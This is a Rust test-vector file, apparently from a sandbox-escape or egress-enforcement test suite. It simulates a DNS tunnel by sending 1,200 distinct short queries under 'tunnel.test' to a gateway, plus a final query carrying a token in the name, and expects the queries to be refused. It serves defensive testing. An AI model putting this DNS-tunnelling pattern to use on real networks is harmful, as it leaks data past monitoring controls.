//! Many short names below one domain: a slow tunnel, which no single query shows.

use std::net::SocketAddr;

use crate::bypass::{ENFORCED, Expect, How, Step, Target, Vector, talk};

pub(super) const VECTOR: Vector = Vector {
    id: "dns-tunnel-names",
    what: "DNS tunnel: a stream of distinct short names below one domain",
    levels: ENFORCED,
    how: How::Inside(attempt),
    expect: |_| Expect::Worker("dns_refused"),
};

/// More than a session may spend on one domain.
const QUERIES: usize = 1200;

fn attempt(target: &Target) -> Vec<Step> {
    let to = SocketAddr::new(target.gateway.0.into(), 53);
    let ask = |number| talk::dns(to, &format!("data{number:05}{number:05}.tunnel.test"), 1);
    let refused =
        (0..QUERIES).filter_map(|number| ask(number).ok()).filter(|answer| answer.starts_with("rcode 5")).count();
    // The name that is reported bears the token.
    let last = talk::dns(to, &format!("{}tunnel.test", target.token), 1);
    vec![Step::with(format!("{refused} of {QUERIES} queries refused, the last"), last)]
}
